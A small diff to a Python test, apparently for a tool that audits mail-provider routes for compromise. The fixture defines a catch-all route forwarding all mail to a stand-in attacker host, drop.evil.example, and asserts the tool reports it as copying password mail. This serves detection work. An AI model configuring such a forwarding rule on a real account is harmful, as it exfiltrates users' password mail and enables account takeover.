@@ -160,7 +160,7 @@ def test_a_route_that_copies_password_mail_is_a_way_until_it_is_called_ours() ->
     user = User(id="u1", email="ada@mg.acme.example", name="Ada", role="admin", is_master=True)
     found.inventory.users = {"u1": UserItem(user, US)}
     found.inventory.routes = {
-        "r": Route(id="r", expression="catch_all()", actions=['forward("https://drop.evil.example/in")'])
+        "r": Route(id="r", expression="catch_all()", actions=('forward("https://drop.evil.example/in")',))
     }
     assert "copies users' password mail to drop.evil.example" in containment(found).words
 
